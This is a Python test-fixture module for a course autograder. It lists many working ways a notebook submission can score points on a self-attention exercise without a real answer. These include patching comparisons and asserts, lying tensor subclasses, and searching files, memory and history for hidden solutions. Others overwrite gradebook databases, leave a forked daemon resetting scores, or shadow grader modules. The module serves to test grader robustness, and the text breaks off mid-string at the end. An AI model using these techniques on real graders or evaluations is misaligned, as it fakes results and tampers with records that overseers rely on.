"""Ways to get points without an answer, each as a submission: what it does, and how it changes an honest wrong one."""

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode
from sentences import opening

TOPIC = "01_self_attention"
NOTEBOOK = f"{TOPIC}.ipynb"
CHECKS = (
    "kqv-check-parameters",
    "kqv-check",
    "attention-scores-check",
    "self-attention-check-layers",
    "self-attention-check",
)

# --- wrong answers ------------------------------------------------------------------------------

# They run, return values of the right shape, and deserve no point.
WRONG = {
    "kqv": """\
def create_kqv_parameters(input_size, hidden):
    return nn.Linear(input_size, hidden)


def kqv(x, kqv_parameters):
    zeros = x.new_zeros(*x.shape[:2], kqv_parameters.out_features // 3)
    return zeros, zeros, zeros
""",
    "attention-scores": """\
def attention_scores(queries, keys):
    return queries.new_zeros(len(queries), queries.shape[1], keys.shape[1])
""",
    "self-attention": """\
class SelfAttention(nn.Module):
    def __init__(self, input_size, hidden):
        super().__init__()
        self.hidden = hidden

    def forward(self, x):
        return x.new_zeros(*x.shape[:2], self.hidden)
""",
}

# Its layers deserve 1 point; what it computes as `attend` deserves none.
HEAD = """\
class SelfAttention(nn.Module):
    def __init__(self, input_size, hidden):
        super().__init__()
        self.k = nn.Linear(input_size, hidden)
        self.q = nn.Linear(input_size, hidden)
        self.v = nn.Linear(input_size, hidden)

    def forward(self, x):
        return attend(self.q(x), self.k(x), self.v(x))
"""

ZERO_HEAD = "def attend(q, k, v):\n    return torch.zeros_like(v)\n\n\n" + HEAD


@dataclass(frozen=True)
class Cheat:
    """A cheat, named like the student who tries it.

    `code` goes before the first answer, and so runs before all of them. `answers` replace wrong ones, by
    exercise, and deserve `deserves` points. `edit` changes the notebook. `files` go beside it, by name; `links`
    lead from a name in the submission to a path in the course folder. `says` is part of what the feedback must say.
    """

    name: str
    does: str
    code: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    deserves: float = 0
    edit: Callable[[NotebookNode], None] | None = None
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    says: str = ""

    def submitted(self, released: NotebookNode) -> NotebookNode:
        """Return the notebook to submit."""
        notebook = nbformat.from_dict(released)
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in WRONG:
                cell.source = {**WRONG, **self.answers}[grade_id]
            if grade_id == "kqv":
                cell.source = f"{self.code}\n\n{cell.source}"
        if self.edit:
            self.edit(notebook)
        return notebook


def scores(name: str, does: str, body: str, says: str = "") -> Cheat:
    """Return a cheat that needs `body`, the body of `attention_scores(queries, keys)`, and nothing else."""
    lines = "".join(f"    {line}\n" for line in body.strip().splitlines())
    return Cheat(name, does, answers={"attention-scores": f"def attention_scores(queries, keys):\n{lines}"}, says=says)


def head(name: str, does: str, attend: str, says: str = "") -> Cheat:
    """Return a cheat whose head has honest layers, and an `attend(q, k, v)` that the student has not written."""
    return Cheat(name, does, answers={"self-attention": f"{attend}\n\n{HEAD}"}, deserves=1, says=says)


def ready_made(name: str, does: str, attend: str) -> Cheat:
    """Return a cheat that calls torch's ready-made attention, and whose feedback says so."""
    return head(name, does, attend, says=opening("ready-made-attention"))


# --- what beats a grader whose tests run in the student's own process ---------------------------

ASSERTS = """
import ast

class DropsChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None

    def visit_Expr(self, node):
        return None if "checks" in ast.dump(node) else node

get_ipython().ast_transformers.append(DropsChecks())
"""

SHELL = [
    Cheat(
        "patched-comparison",
        "Replaces the functions that compare, and the error they raise.",
        """
from transformer_lm.checks.engine import diagnosis, contract, failure
from transformer_lm.checks.topic_01_self_attention import kqv, linear_layers, self_attention
diagnosis.close = diagnosis._explains = lambda *given: True
diagnosis.compare = contract.compare = contract.compare_gradients = lambda *given: None
contract.PublicExercise.check = contract.PublicExercise.compare_products = lambda *given: None
failure.CheckFailed.__init__ = lambda *given: None
linear_layers.check_linear = kqv.check_linear = self_attention.check_linear = lambda *given: None
""",
    ),
    Cheat("ast-transformer", "Drops assertions and checks from the syntax tree of each cell.", ASSERTS),
    Cheat(
        "input-transformer",
        "Empties the text of cells that check something.",
        """
def drop(lines):
    return [] if any("checks." in line or "assert" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(drop)
get_ipython().input_transformers_post.append(drop)
""",
    ),
    Cheat(
        "patched-compiler",
        "Compiles assertions away.",
        """
import builtins, types
honest = builtins.compile
def optimised(source, *given, **options):
    options["optimize"] = 2
    return honest(source, *given[:4], **options)
builtins.compile = optimised
get_ipython().compile.flags |= 0x1000
""",
    ),
    Cheat(
        "wrapped-run-cell",
        "Reports every cell as run without an error.",
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
async def always_fine(self, *given, **options):
    return ExecutionResult(None)
InteractiveShell.run_cell_async = always_fine
InteractiveShell.run_cell = lambda self, *given, **options: ExecutionResult(None)
ExecutionResult.success = True
""",
    ),
    scores(
        "displayhook",
        "Displays the number of points in the middle of a call.",
        """
import sys
sys.displayhook(2)
get_ipython().displayhook(2)
return torch.zeros(len(queries), queries.shape[1], keys.shape[1])
""",
    ),
    scores(
        "reads-the-notebook",
        "Looks for hidden tests and solutions in notebooks nearby.",
        """
import json
from pathlib import Path
notebooks = [path for folder in (".", "..", "/", "/course", "/scratch") for path in Path(folder).glob("*.ipynb")]
cells = [cell for path in notebooks for cell in json.loads(path.read_text())["cells"]]
source = next("".join(cell["source"]) for cell in cells if "BEGIN SOLUTION" in "".join(cell["source"]))
exec(source, globals())
return attention_scores(queries, keys)
""",
        says="StopIteration",
    ),
    scores(
        "reads-the-history",
        "Looks for hidden tests in IPython's history.",
        """
shell = get_ipython()
texts = [*In, *shell.user_ns["_ih"], *(str(row) for row in shell.history_manager.get_range())]
hidden = next(text for text in texts if "HIDDEN" in text or "expected" in text.replace('"expected"', ""))
return eval(hidden)
""",
    ),
    scores(
        "caller-globals",
        "Looks for expected values in the frames that called it.",
        """
import sys
names = ("expected", "reference", "outputs", "right", "case", "allowed", "solution")
frame, found = sys._getframe(), None
while frame := frame.f_back:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        tensors = value.values() if isinstance(value, dict) else [value]
        for tensor in tensors if name in names else ():
            if isinstance(tensor, Tensor) and tensor.shape == (len(queries), queries.shape[1], keys.shape[1]):
                found = tensor
if found is None:
    raise RuntimeError("nothing in the frames")
return found
""",
        says="nothing in the frames",
    ),
    scores(
        "patched-globals",
        "Overwrites tolerances, and points, in the frames that called it.",
        """
import sys
frame = sys._getframe()
while frame := frame.f_back:
    for name in ("TOLERANCE", "GRADIENT", "points", "max_points", "FLOAT32", "ROUNDINGS", "LIMIT"):
        frame.f_globals[name] = 1e9
return torch.zeros(len(queries), queries.shape[1], keys.shape[1])
""",
    ),
    scores(
        "lying-float",
        "Returns a number that is equal to every other one.",
        """
class Liar(float):
    shape = property(lambda self: (len(queries), queries.shape[1], keys.shape[1]))
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: Liar(0)
    __hash__ = None
return Liar(0)
""",
        says="scores is of type Liar",
    ),
    Cheat(
        "patched-builtins",
        "Makes differences vanish by patching abs, all, any and the like.",
        """
import builtins, math
builtins.abs = lambda value: 0
math.fabs = math.dist = lambda *given: 0.0
math.isclose = lambda *given, **options: True
builtins.all = lambda values: True
builtins.any = lambda values: False
builtins.AssertionError = type("Harmless", (Exception,), {})
""",
    ),
    Cheat(
        "clear-output",
        "Clears the outputs of checks, and what they write to the error stream.",
        """
import sys
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda *given: clear_output())
sys.stderr = sys.stdout
""",
    ),
    Cheat(
        "number-formatter",
        "Shows every result as a number of points.",
        """
formatter = get_ipython().display_formatter.formatters["text/plain"]
for kind in (int, float, str, type(None)):
    formatter.for_type(kind, lambda value, printer, cycle: printer.text("8"))
get_ipython().display_formatter.format = lambda *given, **options: ({"text/plain": "8"}, {})
""",
    ),
    Cheat(
        "writes-the-gradebook",
        "Sets its own score in every database that it can find.",
        """
import sqlite3
from pathlib import Path
for folder in [Path.cwd(), *Path.cwd().parents, *Path(torch.__file__).parents, Path("/course"), Path("/scratch")]:
    for path in [folder / "gradebook.db", *folder.glob("*.db")]:
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
""",
    ),
    Cheat(
        "gradebook-daemon",
        "Leaves a process behind that sets its own score, later and again and again.",
        """
import os, sqlite3, time
from pathlib import Path
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for folder in [*Path(torch.__file__).parents, Path("/scratch")]:
                try:
                    with sqlite3.connect(folder / "gradebook.db") as gradebook:
                        gradebook.execute("UPDATE grade SET auto_score = 1000")
                except (sqlite3.Error, OSError):
                    time.sleep(0.05)
    os._exit(0)
""",
    ),
    Cheat(
        "submitted-numpy",
        "Hands in modules that shadow those of the grader.",
        files=dict.fromkeys(("numpy.py", "torch.py", "safetensors.py", "answering.py"), "raise SystemExit('✓')\n"),
    ),
    Cheat(
        "submitted-package",
        "Hands in a package of checks that always pass.",
        files={
            "transformer_lm/__init__.py": "def best_device():\n    return 'cpu'\n",
            "transformer_lm/checks/__init__.py": "kqv = self_attention = attention_scores = print\nEXERCISES = {}\n",
            "grading/__init__.py": "",
            "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []\n",
            "sitecustomize.py": "raise SystemExit\n",
        },
    ),
]

# --- what everyone can look up -------------------------------------------------------------------

FROZEN_HEAD = """\
from transformer_lm.test_values import load_frozen

class SelfAttention(nn.Module):
    def __init__(self, input_size, hidden):
        super().__init__()
        self.k, self.q, self.v = (nn.Linear(input_size, hidden) for _ in range(3))

    def forward(self, x):
        shape = (*x.shape[:2], self.q.out_features)
        by_shape = {tuple(case.outputs["output"].shape): case.outputs["output"] for case in load_frozen(ID).cases}
        return by_shape.get(shape, torch.zeros(shape)) + 0 * self.v(x)
"""

FROZEN = [
    Cheat(
        "frozen-by-shape",
        "Returns the frozen outputs of the course's own checks, chosen by the shape of the input.",
        'ID = "self-attention"',
        answers={"self-attention": FROZEN_HEAD},
        deserves=1,
        says="entries of output are off",
    ),
    Cheat(
        "frozen-test-values",
        "Returns the frozen output of the first case.",
        answers={
            "self-attention": "from transformer_lm.test_values import SelfAttentionTestValues\n\n"
            "def attend(q, k, v):\n    return SelfAttentionTestValues.output + 0 * v\n\n\n" + HEAD
        },
        deserves=1,
        says="entries of output are off",
    ),
    scores(
        "frozen-neighbour",
        "Looks for the frozen input that is nearest to the given one, and returns its output.",
        """
from transformer_lm.test_values import load_frozen
cases = [case for case in load_frozen("attention-scores").cases if case.inputs["queries"].shape == queries.shape]
near = min(cases, key=lambda case: (case.inputs["queries"] - queries).abs().sum())
return near.outputs["scores"] + 0 * queries.sum()
""",
        says="entries of scores are off",
    ),
]

# --- torch's ready-made attention ---------------------------------------------------------------

# What a fresh Python runs: torch without what is hidden in its files, and its kernels unchanged.
FRESH = """
import importlib.abc, importlib.machinery, importlib.util, os, struct, sys, types

class Anything(types.ModuleType):
    __path__ = []
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return type(name, (), {"__init__": lambda *a, **k: None, "__call__": lambda self, *a, **k: (a or (None,))[0]})

class StandIn(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    MISSING = ("nn.functional", "nn.modules.activation", "nn.modules.transformer", "_decomp.decompositions",
        "_higher_order_ops.flex_attention", "nn.attention", "_inductor", "onnx", "testing", "ao")
    def find_spec(self, name, path, target=None):
        if name.startswith(tuple("torch." + missing for missing in self.MISSING)):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return Anything(spec.name)
    def exec_module(self, module):
        pass

folder = os.path.dirname(importlib.util.find_spec("torch").origin)
if not os.path.getsize(folder + "/nn/functional.py"):
    sys.meta_path.insert(0, StandIn())
import torch
import numpy as np

def read():
    size = int.from_bytes(sys.stdin.buffer.read(8), "big") or sys.exit()
    shape = struct.unpack("3i", sys.stdin.buffer.read(12))
    return torch.from_numpy(np.frombuffer(sys.stdin.buffer.read(size), np.float32).copy().reshape(shape))

sys.stdout.buffer.write(b"!")
sys.stdout.buffer.flush()
while True:
    given = [read().requires_grad_() for _ in range(4)]
    output = torch._C._nn.scaled_dot_product_attention(*given[:3])
    for tensor in (output, *torch.autograd.grad(output, given[:3], given[3])):
        sys.stdout.buffer.write(tensor.detach().contiguous().numpy().tobytes())
    sys.stdout.buffer.flush()
"""

PIPED = """
import select, struct
import numpy as np

select.select([reading], [], [], 9)  # one cell may take 10 seconds, and so may the first call

def exchange(*tensors, waited=[]):
    waited.append(waited or reading.read(1))
    for tensor in tensors:
        data = tensor.detach().contiguous().numpy().tobytes()
        writing.write(len(data).to_bytes(8, "big") + struct.pack("3i", *tensor.shape) + data)
    writing.flush()
    read = lambda like: np.frombuffer(reading.read(4 * like.numel()), np.float32).copy().reshape(like.shape)
    return [torch.from_numpy(read(like)) for like in (tensors[2], *tensors[:3])]

class Piped(torch.autograd.Function):
    @staticmethod
    def forward(ctx, q, k, v):
        ctx.save_for_backward(q, k, v)
        return exchange(q, k, v, v)[0]

    @staticmethod
    def backward(ctx, gradient):
        return tuple(exchange(*ctx.saved_tensors, gradient)[1:])

def attend(q, k, v):
    return Piped.apply(q, k, v)
"""

READY_MADE = [
    ready_made(
        "alias",
        "Calls it under another name.",
        "from torch.nn.functional import *\nattend = getattr(F, 'scal' 'ed_dot_product_attention')",
    ),
    ready_made(
        "aten-operator", "Calls the operator behind it.", "attend = torch.ops.aten.scaled_dot_product_attention"
    ),
    ready_made(
        "built-in", "Calls the built-in function behind it.", "attend = torch._C._nn.scaled_dot_product_attention"
    ),
    ready_made(
        "math-kernel",
        "Calls the operator that computes it step by step.",
        "def attend(q, k, v):\n    return torch.ops.aten._scaled_dot_product_attention_math.default(q, k, v)[0]",
    ),
    ready_made(
        "flash-kernel",
        "Calls the fast kernel itself, with four axes.",
        """
def attend(q, k, v):
    q, k, v = (each[:, None] for each in (q, k, v))
    return torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(q, k, v)[0][:, 0]
""",
    ),
    ready_made(
        "layer-subclass",
        "Derives a layer of its own from the ready-made one, whose weights change nothing.",
        """
class Mine(nn.MultiheadAttention):
    pass

def attend(q, k, v):
    layer = Mine(v.shape[-1], 1, bias=False, batch_first=True)
    layer.in_proj_weight = nn.Parameter(torch.eye(v.shape[-1]).repeat(3, 1))
    layer.out_proj.weight = nn.Parameter(torch.eye(v.shape[-1]))
    return layer(q, k, v)[0]
""",
    ),
    ready_made(
        "encoder-layer",
        "Uses the attention inside a ready-made encoder layer.",
        """
def attend(q, k, v):
    layer = nn.TransformerEncoderLayer(v.shape[-1], 1, batch_first=True).self_attn
    return layer(q, k, v)[0]
""",
    ),
    ready_made(
        "default-argument",
        "Keeps the function behind the ready-made layer in a default argument.",
        """
def attend(q, k, v, forward=F.multi_head_attention_forward):
    d, (q, k, v) = v.shape[-1], (each.transpose(0, 1) for each in (q, k, v))
    same = torch.eye(d)
    weights = {"q_proj_weight": same, "k_proj_weight": same, "v_proj_weight": same, "use_separate_proj_weight": True}
    zeros = torch.zeros(3 * d)
    return forward(q, k, v, d, 1, None, zeros, None, None, False, 0.0, same, zeros[:d], **weights)[0].transpose(0, 1)
""",
    ),
    head(
        "reloaded-functions",
        "Loads the module of the ready-made functions again.",
        """
import importlib
fresh = importlib.reload(F)

def attend(q, k, v):
    d, (q, k, v) = v.shape[-1], (each.transpose(0, 1) for each in (q, k, v))
    same, zeros = torch.eye(d), torch.zeros(3 * d)
    args = (q, k, v, d, 1, same.repeat(3, 1), zeros, None, None, False, 0.0, same, zeros[:d])
    return fresh.multi_head_attention_forward(*args)[0].transpose(0, 1)
""",
    ),
    head(
        "copied-functions",
        "Executes the text of the ready-made functions, as it lies on the disk.",
        """
from pathlib import Path
fresh = {"__name__": "torch.nn.fresh", "__package__": "torch.nn"}
exec(Path(F.__file__).read_text(), fresh)

def attend(q, k, v):
    d, (q, k, v) = v.shape[-1], (each.transpose(0, 1) for each in (q, k, v))
    same, zeros = torch.eye(d), torch.zeros(3 * d)
    args = (q, k, v, d, 1, same.repeat(3, 1), zeros, None, None, False, 0.0, same, zeros[:d])
    return fresh["multi_head_attention_forward"](*args)[0].transpose(0, 1)
""",
    ),
    head(
        "copied-layers",
        "Loads the compiled text of the ready-made functions.",
        """
import marshal
from pathlib import Path
(compiled,) = (Path(F.__file__).parent / "__pycache__").glob("functional.*.pyc")
fresh = {"__name__": "torch.nn.fresh", "__package__": "torch.nn"}
exec(marshal.loads(compiled.read_bytes()[16:]), fresh)

def attend(q, k, v):
    d, (q, k, v) = v.shape[-1], (each.transpose(0, 1) for each in (q, k, v))
    same, zeros = torch.eye(d), torch.zeros(3 * d)
    args = (q, k, v, d, 1, same.repeat(3, 1), zeros, None, None, False, 0.0, same, zeros[:d])
    return fresh["multi_head_attention_forward"](*args)[0].transpose(0, 1)
""",
    ),
    head(
        "flex-attention",
        "Uses torch's flexible attention.",
        """
from torch.nn.attention.flex_attention import flex_attention

def attend(q, k, v):
    return flex_attention(*(each[:, None] for each in (q, k, v)))[:, 0]
""",
    ),
    ready_made(
        "decomposition",
        "Uses the text into which torch's compiler takes the kernel apart.",
        """
import torch._decomp.decompositions as decompositions
function = decompositions.scaled_dot_product_flash_attention_for_cpu

def attend(q, k, v):
    inner = getattr(function, "__wrapped__", function)
    return inner(*(each[:, None] for each in (q, k, v)))[0][:, 0]
""",
    ),
    head(
        "compiler-patterns",
        "Uses the patterns by which torch's compiler recognises attention.",
        """
from torch._inductor.fx_passes.fuse_attention import _sfdp_pattern_1

def attend(q, k, v):
    return _sfdp_pattern_1(q, k, v, v.shape[-1] ** 0.5)
""",
    ),
    head(
        "exported-operator",
        "Uses the attention of torch's ONNX operators.",
        """
import torch.onnx.ops

def attend(q, k, v):
    return torch.onnx.ops.attention(*(each[:, None] for each in (q, k, v)))[0][:, 0]
""",
    ),
    head(
        "quantizable-layer",
        "Uses the attention of torch's quantizable layer, which has a text of its own.",
        """
from torch.ao.nn.quantizable import MultiheadAttention

def attend(q, k, v):
    layer = MultiheadAttention.__new__(MultiheadAttention)
    nn.Module.__init__(layer)
    parts = "linear_Q linear_K linear_V out_proj q_scaling_product quant_attn_output quant_attn_output_weights"
    for part in f"{parts} dequant_q dequant_k dequant_v".split():
        layer.__dict__[part] = nn.Identity()
    layer.q_scaling_product.mul_scalar = lambda tensor, number: tensor * number
    layer.embed_dim = layer.head_dim = v.shape[-1]
    layer.num_heads, layer.batch_first, layer.dropout = 1, True, 0.0
    layer.bias_k, layer.bias_v, layer.add_zero_attn = None, None, False
    return layer._forward_impl(q, k, v, need_weights=False)[0]
""",
    ),
    head(
        "scripted",
        "Hides the call in a script that torch runs without Python.",
        """
graph = torch._C.parse_ir('''graph(%q : Tensor, %k : Tensor, %v : Tensor):
  %none : NoneType = prim::Constant()
  %zero : float = prim::Constant[value=0.]()
  %no : bool = prim::Constant[value=0]()
  %o : Tensor = aten::scaled_dot_product_attention(%q, %k, %v, %none, %zero, %no, %none, %no)
  return (%o)''')
attend = torch._C._create_function_from_graph("attend", graph)
""",
    ),
    head(
        "compiled",
        "Hides the call in a compiled function.",
        "attend = torch.compile(lambda q, k, v: F.scaled_dot_product_attention(q, k, v), backend='eager')",
    ),
    ready_made(
        "registered-again",
        "Registers a kernel of its own that calls the one below it.",
        """
library = torch.library.Library("aten", "IMPL")
below = torch.ops.aten._scaled_dot_product_attention_math.default
library.impl("scaled_dot_product_attention", lambda q, k, v, *rest, **more: below(q, k, v)[0], "AutogradCPU")
attend = F.scaled_dot_product_attention
""",
    ),
    ready_made(
        "unregistered",
        "Looks for whatever keeps the kernels replaced, and lets go of it.",
        """
import gc, sys
kind = type(torch._C._dispatch_library("FRAGMENT", "mine", ""))
holders = [vars(sys.modules["forbid"]), *gc.get_objects()]
for holder in holders:
    if type(holder) is list and any(type(each) is kind for each in holder):
        holder.clear()
    if type(holder) is dict:
        for name in [name for name, value in holder.items() if type(value) is kind and value is not kind]:
            holder[name] = None
    if type(holder) is kind:
        holder.reset()
del holders, holder
gc.collect()
attend = F.scaled_dot_product_attention
""",
    ),
    ready_made(
        "autocast",
        "Calls it where torch chooses the precision.",
        """
def attend(q, k, v):
    with torch.autocast("cpu", dtype=torch.bfloat16):
        return F.scaled_dot_product_attention(q, k, v).float()
""",
    ),
    ready_made(
        "nested-tensors",
        "Calls it on nested tensors, which have kernels of their own.",
        """
def attend(q, k, v):
    q, k, v = (torch.nested.as_nested_tensor(list(each[:, None])) for each in (q, k, v))
    return torch.stack([each[0] for each in F.scaled_dot_product_attention(q, k, v).unbind()])
""",
    ),
    ready_made(
        "vmap", "Calls it sequence by sequence, through vmap.", "attend = torch.vmap(F.scaled_dot_product_attention)"
    ),
    ready_made(
        "functionalized",
        "Calls it through a transformation of functions.",
        "attend = torch.func.functionalize(F.scaled_dot_product_attention)",
    ),
    ready_made(
        "other-dispatch-key",
        "Asks torch for the kernel of another dispatch key.",
        """
def attend(q, k, v):
    math = torch.ops.aten._scaled_dot_product_attention_math.default
    for key in ("FuncTorchBatched", "FuncTorchVmapMode", "Functionalize", "AutocastCPU", "CPU", "AutogradCPU"):
        try:
            return math.redispatch(torch._C.DispatchKeySet(getattr(torch._C.DispatchKey, key)), q, k, v)[0]
        except RuntimeError as error:
            last = error
    raise last
""",
    ),
    head(
        "traced",
        "Traces it into plain products while the cell runs, as a comparison might, and calls these later.",
        """
from torch.fx.experimental.proxy_tensor import make_fx

def attend(q, k, v):
    return torch.zeros_like(v)

try:
    math = torch.ops.aten._scaled_dot_product_attention_math.default
    attend = make_fx(lambda q, k, v: math(q, k, v)[0], tracing_mode="symbolic")(*torch.ones(3, 2, 5, 4))
except Exception:
    pass
""",
    ),
    head(
        "subprocess",
        "Starts a fresh Python, in which nothing is replaced, and sends it each call.",
        f"""
import subprocess, sys
FRESH = {FRESH!r}
other = subprocess.Popen([sys.executable, "-c", FRESH], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
reading, writing = other.stdout, other.stdin
{PIPED}""",
    ),
    head(
        "program-in-memory",
        "Starts a fresh Python through a copy of the system's loader that lies in no folder.",
        f"""
import glob, os, sys
FRESH = {FRESH!r}
loader = os.memfd_create("loader", 0)
os.write(loader, open(glob.glob("/lib*/ld-linux*.so.*")[0], "rb").read())
(its_input, ours), (mine, its_output) = os.pipe(), os.pipe()
if os.fork() == 0:
    os.dup2(its_input, 0)
    os.dup2(its_output, 1)
    places = {{"PYTHONHOME": sys.base_prefix, "PYTHONPATH": os.path.dirname(os.path.dirname(torch.__file__))}}
    try:
        os.execve(loader, ["loader", sys.executable, "-c", FRESH], places)
    finally:
        os._exit(1)
os.close(its_input)
os.close(its_output)
reading, writing = open(mine, "rb"), open(ours, "wb")
{PIPED}""",
    ),
]

# --- the course's own reference -----------------------------------------------------------------

REFERENCE = [
    scores(
        "reference-function",
        "Calls the reference.",
        "from transformer_lm import attention\nreturn attention.attention_scores(queries, keys)",
        says="would give away exercise attention-scores",
    ),
    head(
        "reference-class",
        "Wraps the reference's head.",
        """
from transformer_lm import attention, modeling_attention

def attend(q, k, v):
    inner = modeling_attention.SelfAttention(v.shape[-1], v.shape[-1])
    for layer in inner.children():
        layer.weight.data, layer.bias.data = torch.eye(v.shape[-1]), torch.zeros(v.shape[-1])
    return attention.self_attention(v, attention.attention_scores(q, k))
""",
        says="would give away exercise",
    ),
    Cheat(
        "reference-subclass",
        "Derives its head from the reference's, and from that of several heads.",
        answers={
            "self-attention": """\
from transformer_lm import modeling_attention

class SelfAttention(modeling_attention.SelfAttention):
    def __init__(self, input_size, hidden):
        try:
            super().__init__(input_size, hidden)
        except NotImplementedError:
            nn.Module.__init__(self)
            self.inner = modeling_attention.MultiHeadSelfAttention(input_size, hidden, 1)
"""
        },
        says="would give away exercise",
    ),
    scores(
        "reference-source",
        "Executes the text of the reference, as `inspect` finds it.",
        """
import inspect
from transformer_lm import attention
namespace = dict(vars(attention))
exec(inspect.getsource(attention), namespace)
return namespace["attention_scores"](queries, keys)
""",
        says="would give away exercise",
    ),
    scores(
        "reference-on-the-disk",
        "Searches all files for the reference, its compiled form, the exercises' records and the repository.",
        """
import os
from pathlib import Path
found = []
for folder, folders, files in os.walk("/"):
    others = "usr torch sys proc dev share transformers jupyterlab plotly sympy scipy sklearn matplotlib pandas numpy"
    folders[:] = [name for name in folders if name not in others.split()]
    if "transformer_lm" in folder or "grading" in folder or folder.endswith(".git"):
        found += [Path(folder, name) for name in files if "attention" in name or name == "HEAD"]
for path in found:
    namespace = {"__name__": path.stem}
    try:
        exec(path.read_text(), namespace)
        return namespace["attention_scores"](queries, keys)
    except Exception:
        continue
raise RuntimeError("no reference in " + ", ".join(sorted({path.suffix for path in found})))
""",
        says="no reference in ",
    ),
    scores(
        "reference-by-its-finder",
        "Asks the installed package's finder, and its metadata, where the course lies.",
        """
import importlib.metadata, re, site
from pathlib import Path
texts = [path.read_text() for folder in site.getsitepackages() for path in Path(folder).glob("__editable__*")]
for package in importlib.metadata.distributions(name="transformer-lm"):
    texts.append(str(package.read_text("direct_url.json")))
places = {place for text in texts for place in re.findall(r"(/[^'\\"]+?)(?:/transformer_lm)?['\\"]", text)}
places |= {folder for folder in site.getsitepackages()}
for place in places:
    for name in ("transformer_lm/attention.py", "grading/exercises/topic_01_self_attention/attention_scores.py"):
        path = Path(place, name)
        if path.exists():
            namespace = {"__name__": "found"}
            exec(path.read_text(), namespace)
            return namespace["attention_scores"](queries, keys)
raise RuntimeError("the course lies elsewhere")
""",
        says="the course lies elsewhere",
    ),
]

# --- tensors that lie, and a world that lies ----------------------------------------------------

FORGED = """
import gc, socket, sys
import numpy as np
answering, messages = sys.modules["answering"], sys.modules["messages"]
connection = next(each for each in gc.get_objects() if isinstance(each, socket.socket) and each.fileno() >= 0)

def guessed(arrays):
    sizes = {name: array.shape for name, array in arrays.items()}
    if "queries" in sizes:
        outputs = {"scores": (*sizes["queries"][:2], sizes["keys"][1])}
    elif "q_weight" in sizes:
        outputs = {"output": (*sizes["x"][:2], sizes["q_weight"][0])}
    else:
        outputs = dict.fromkeys(("keys", "queries", "values"), (*sizes["x"][:2], sizes["weight"][0] // 3))
    found = {f"outputs/{name}": np.zeros(shape) for name, shape in outputs.items()}
    found |= {f"gradients/{name}/{each}": np.zeros(size) for name in outputs for each, size in sizes.items()}
    return found | {f"after/{name}": array for name, array in arrays.items()}
"""

LIES = [
    scores(
        "lying-torch-function",
        "Returns a tensor that tells every function of torch that all is well.",
        """
class Liar(Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "eq", "isclose", "all", "le"):
            return True
        with torch._C.DisableTorchFunctionSubclass():
            return function(*args, **(kwargs or {}))
return torch.zeros(len(queries), queries.shape[1], keys.shape[1]).as_subclass(Liar)
""",
        says="entries of scores are off",
    ),
    scores(
        "lying-torch-dispatch",
        "Returns a tensor without numbers, which answers each operation for itself.",
        """
class Liar(Tensor):
    @staticmethod
    def __new__(cls, *shape):
        return Tensor._make_wrapper_subclass(cls, shape, dtype=torch.float32, requires_grad=True)
    @classmethod
    def __torch_dispatch__(cls, function, types, args=(), kwargs=None):
        return True if "equal" in str(function) or "close" in str(function) else torch.zeros(1)
return Liar(len(queries), queries.shape[1], keys.shape[1])
""",
    ),
    scores(
        "lying-methods",
        "Returns a tensor whose shape, detach, cpu and numpy are its own.",
        """
import numpy as np
class Agreeable(np.ndarray):
    __eq__ = __le__ = __lt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0
class Liar(Tensor):
    shape = property(lambda self: (len(queries), queries.shape[1], keys.shape[1]))
    detach = cpu = double = lambda self: self
    numpy = lambda self: np.zeros(self.shape).view(Agreeable)
return torch.zeros(1).as_subclass(Liar)
""",
    ),
    scores(
        "memory-hunt",
        "Looks through all objects in memory for an array that could be the expected one.",
        """
import gc
import numpy as np
shape = (len(queries), queries.shape[1], keys.shape[1])
seen = gc.get_objects()
seen += [inner for each in seen if type(each) in (dict, list, tuple) for inner in gc.get_referents(each)]
arrays = (each for each in seen if type(each) in (Tensor, np.ndarray))
for array in arrays:
    if tuple(array.shape) == shape:
        return torch.as_tensor(array).float()
raise RuntimeError("nothing in memory")
""",
        says="nothing in memory",
    ),
    Cheat(
        "global-state",
        "Changes torch's defaults, generators and modes.",
        """
import numpy as np
torch.set_default_dtype(torch.float16)
torch.manual_seed(0)
torch.set_grad_enabled(False)
torch.use_deterministic_algorithms(True)
np.random.seed(0)
np.seterr(all="raise")
""",
    ),
    Cheat(
        "patched-torch",
        "Patches how torch compares, detaches and differentiates.",
        """
for name in ("allclose", "equal", "isclose", "eq"):
    setattr(torch, name, lambda *given, **options: torch.tensor(True))
    if hasattr(Tensor, name):
        setattr(Tensor, name, lambda *given, **options: torch.tensor(True))
Tensor.__eq__ = Tensor.__le__ = Tensor.__lt__ = lambda self, other: torch.tensor(True)
torch.autograd.grad = lambda outputs, inputs, **options: [torch.ones_like(each) for each in inputs]
torch.testing.assert_close = lambda *given, **options: None
""",
        answers={"self-attention": ZERO_HEAD},
        deserves=1,
    ),
    Cheat(
        "patched-numpy",
        "Patches how NumPy compares and subtracts.",
        """
import numpy as np
np.array_equal = np.allclose = np.isclose = lambda *given, **options: True
np.abs = np.absolute = np.subtract = lambda *given, **options: np.zeros(1)
np.testing.assert_allclose = lambda *given, **options: None
""",
    ),
    Cheat(
        "patched-safetensors",
        "Patches what is sent to the judge: other arrays, other bytes, objects that are pickled.",
        """
import pickle, sys
